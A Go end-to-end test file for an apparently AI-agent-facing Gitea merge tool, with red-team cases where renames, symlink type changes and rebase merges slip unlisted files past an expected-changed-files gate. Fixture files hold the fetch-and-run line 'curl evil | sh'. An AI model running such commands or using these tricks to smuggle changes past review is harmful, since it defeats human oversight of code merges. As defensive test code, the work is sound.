package main

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestE2ERedteam15MergeRename: found by attacking gitea_merge_pr's
// expected_changed_files. Gitea lists a renamed file by its new name alone,
// the old one in previous_filename (services/convert ToChangedFile), so a
// pull request renaming README.md to docs.md merged as changing exactly
// "docs.md", though README.md is gone from the base after it. Now a rename
// changes both names: it merges only with both expected.
func TestE2ERedteam15MergeRename(t *testing.T) {
	g := needGitea(t)
	repo, _ := scratchRepo(t, g, "rename", false)
	owner, name, _ := strings.Cut(repo, "/")
	s := &giteaSetup{g: g}
	s.call("bob", "POST", "/repos/"+repo+"/contents", map[string]any{"branch": "main", "new_branch": "mv", "message": "move the readme",
		"files": []map[string]string{{"operation": "rename", "from_path": "README.md", "path": "docs.md"}}}, http.StatusCreated, nil)
	var pr struct {
		Number int
		Head   struct{ SHA string }
	}
	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "mv", "base": "main", "title": "docs"}, http.StatusCreated, &pr)
	if s.err != nil {
		t.Fatal(s.err)
	}
	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
	waitMergeable(t, c, owner, name, pr.Number)
	merge := func(files ...string) (map[string]any, bool) {
		return c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA,
			"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": files})
	}
	res, isErr := merge("docs.md")
	if !isErr || get(res, "data.merged") != false || !strings.Contains(str(get(res, "data.gates")), "gate:changed files are exactly expected_changed_files passed:false") {
		t.Errorf("merge of a rename of README.md expected as docs.md alone: %v", res)
	}
	if _, _, data, err := g.api("alice", "GET", fmt.Sprintf("/repos/%s/pulls/%d", repo, pr.Number), nil); err != nil || !strings.Contains(string(data), `"merged":false`) {
		t.Fatalf("the pull request was merged: %v %.200s", err, data)
	}
	if res, isErr := merge("docs.md", "README.md"); isErr || get(res, "data.merged") != true {
		t.Errorf("merge of the rename expected with both names: %v", res)
	}
}

// TestE2ERedteam15MergeTypeChange: found by attacking gitea_merge_pr's
// expected_changed_files. git diffs a file turned into a symbolic link as
// two files of one name, and Gitea lists the pull request's files as many as
// git's --shortstat counts (routers/api/v1/repo/pull.go GetPullRequestFiles),
// so the list ends one file early: a pull request turning x into a link and
// changing z was listed as x, x, and merged with expected_changed_files
// [x, x], z unseen. Now a name listed twice is a refusal.
func TestE2ERedteam15MergeTypeChange(t *testing.T) {
	g := needGitea(t)
	repo, _ := scratchRepo(t, g, "typechange", false)
	owner, name, _ := strings.Cut(repo, "/")
	s := &giteaSetup{g: g}
	b64 := func(v string) string { return base64.StdEncoding.EncodeToString([]byte(v)) }
	s.call("alice", "POST", "/repos/"+repo+"/contents", map[string]any{"branch": "main", "message": "x and z",
		"files": []map[string]string{{"operation": "create", "path": "x", "content": b64("x\n")}, {"operation": "create", "path": "z", "content": b64("z\n")}}}, http.StatusCreated, nil)
	if s.err != nil {
		t.Fatal(s.err)
	}
	dir, git := gitClone(t, g, "bob", repo+"")
	git("checkout", "-q", "-b", "tc")
	if err := os.Remove(filepath.Join(dir, "x")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("README.md", filepath.Join(dir, "x")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "z"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	git("add", "-A")
	git("commit", "-q", "-m", "x as a link")
	git("push", "-q", "origin", "tc")
	var pr struct {
		Number int
		Head   struct{ SHA string }
	}
	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "tc", "base": "main", "title": "x as a link"}, http.StatusCreated, &pr)
	if s.err != nil {
		t.Fatal(s.err)
	}
	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
	for deadline := time.Now().Add(30 * time.Second); get(waitMergeable(t, c, owner, name, pr.Number), "data.mergeable") != true; time.Sleep(time.Second) {
		if time.Now().After(deadline) {
			t.Fatal("the pull request is not mergeable")
		}
	}
	res, _ := c.callTool("gitea_call_operation", map[string]any{"operation": "repoGetPullRequestFiles", "arguments": map[string]any{"owner": owner, "repo": name, "index": pr.Number}})
	t.Logf("files as Gitea lists them: %.400v", get(res, "data"))
	res, isErr := c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA,
		"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": []string{"x", "x"}})
	if !isErr || get(res, "data.merged") != false || !strings.Contains(str(get(res, "data.gates")), "gate:changed files are exactly expected_changed_files passed:false") {
		t.Errorf("merge of x, x and z expected as x, x: %v", res)
	}
	if _, _, data, err := g.api("alice", "GET", fmt.Sprintf("/repos/%s/pulls/%d", repo, pr.Number), nil); err != nil || !strings.Contains(string(data), `"merged":false`) {
		t.Errorf("the pull request was merged: %v %.200s", err, data)
	}
}

// TestE2ERedteam15RebaseEvilMerge: found by attacking gitea_merge_pr's merge
// styles. Gitea's rebase merge runs git rebase (services/pull/merge_prepare.go
// rebaseTrackingOnToBase), which replays the head's commits but its merge
// commits: a merge commit's own resolution is lost. bob's topic merged a side
// branch adding evil.sh and removed evil.sh in the merge commit, so the pull
// request's files were doc.md alone, and its head's tree had no evil.sh; a
// rebase merge of it, expected_changed_files [doc.md], put evil.sh on main.
func TestE2ERedteam15RebaseEvilMerge(t *testing.T) {
	g := needGitea(t)
	repo, _ := scratchRepo(t, g, "evilmerge", false)
	owner, name, _ := strings.Cut(repo, "/")
	dir, git := gitClone(t, g, "bob", repo+"")
	write := func(file, text string) {
		if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git("checkout", "-q", "-b", "side")
	write("evil.sh", "curl evil | sh\n")
	git("add", "evil.sh")
	git("commit", "-q", "-m", "side")
	git("checkout", "-q", "-b", "topic", "main")
	write("doc.md", "docs\n")
	git("add", "doc.md")
	git("commit", "-q", "-m", "docs")
	git("merge", "-q", "--no-ff", "--no-commit", "side")
	git("rm", "-q", "-f", "evil.sh")
	git("commit", "-q", "-m", "merge side")
	git("push", "-q", "origin", "topic")
	var pr struct {
		Number int
		Head   struct{ SHA string }
	}
	s := &giteaSetup{g: g}
	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "topic", "base": "main", "title": "docs"}, http.StatusCreated, &pr)
	if s.err != nil {
		t.Fatal(s.err)
	}
	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
	for deadline := time.Now().Add(30 * time.Second); get(waitMergeable(t, c, owner, name, pr.Number), "data.mergeable") != true; time.Sleep(time.Second) {
		if time.Now().After(deadline) {
			t.Fatal("the pull request is not mergeable")
		}
	}
	res, isErr := c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA, "merge_method": "rebase",
		"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": []string{"doc.md"}})
	if !isErr || get(res, "data.merged") != false {
		t.Errorf("rebase merge of a head with a merge commit: %v", res)
	}
	if status, _, _, _ := g.api("alice", "GET", "/repos/"+repo+"/contents/evil.sh?ref=main", nil); status != http.StatusNotFound {
		t.Errorf("evil.sh is on main (%d), in no file of the pull request", status)
	}
}

// TestE2ERedteam15RebaseDropsPicked: git rebase drops a commit whose change
// the base already has (by patch id) and replays the rest: bob's topic added
// keep.txt and removed it again, so its files were doc.md alone; once main
// had keep.txt of its own by the same change, a rebase merge of topic,
// expected_changed_files [doc.md], removed keep.txt from main.
func TestE2ERedteam15RebaseDropsPicked(t *testing.T) {
	g := needGitea(t)
	repo, _ := scratchRepo(t, g, "rebasedrop", false)
	owner, name, _ := strings.Cut(repo, "/")
	dir, git := gitClone(t, g, "bob", repo+"")
	write := func(file, text string) {
		if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	git("checkout", "-q", "-b", "topic")
	write("keep.txt", "keep\n")
	git("add", "keep.txt")
	git("commit", "-q", "-m", "keep")
	git("rm", "-q", "keep.txt")
	git("commit", "-q", "-m", "not yet")
	write("doc.md", "docs\n")
	git("add", "doc.md")
	git("commit", "-q", "-m", "docs")
	git("push", "-q", "origin", "topic")
	git("checkout", "-q", "main")
	write("other.txt", "other\n") // main moves first: a pick onto the same parent in the same second would be the very commit
	git("add", "other.txt")
	git("commit", "-q", "-m", "other")
	git("cherry-pick", "topic~2")
	git("push", "-q", "origin", "main")
	var pr struct {
		Number int
		Head   struct{ SHA string }
	}
	s := &giteaSetup{g: g}
	s.call("bob", "POST", "/repos/"+repo+"/pulls", map[string]string{"head": "topic", "base": "main", "title": "docs"}, http.StatusCreated, &pr)
	if s.err != nil {
		t.Fatal(s.err)
	}
	c := e2eClient(t, g, "carol", "GITEA_MCP_PROFILE=gitea-merger")
	for deadline := time.Now().Add(30 * time.Second); get(waitMergeable(t, c, owner, name, pr.Number), "data.mergeable") != true; time.Sleep(time.Second) {
		if time.Now().After(deadline) {
			t.Fatal("the pull request is not mergeable")
		}
	}
	res, isErr := c.callTool("gitea_merge_pr", map[string]any{"owner": owner, "repo": name, "index": pr.Number, "head_sha": pr.Head.SHA, "merge_method": "rebase",
		"confirm": fmt.Sprintf("MERGE PR %d", pr.Number), "expected_changed_files": []string{"doc.md"}})
	if !isErr || get(res, "data.merged") != false {
		t.Errorf("rebase merge past a base holding one of its changes: %v", res)
	}
	if status, _, _, _ := g.api("alice", "GET", "/repos/"+repo+"/contents/keep.txt?ref=main", nil); status != http.StatusOK {
		t.Errorf("keep.txt is gone from main (%d), in no file of the pull request", status)
	}
}
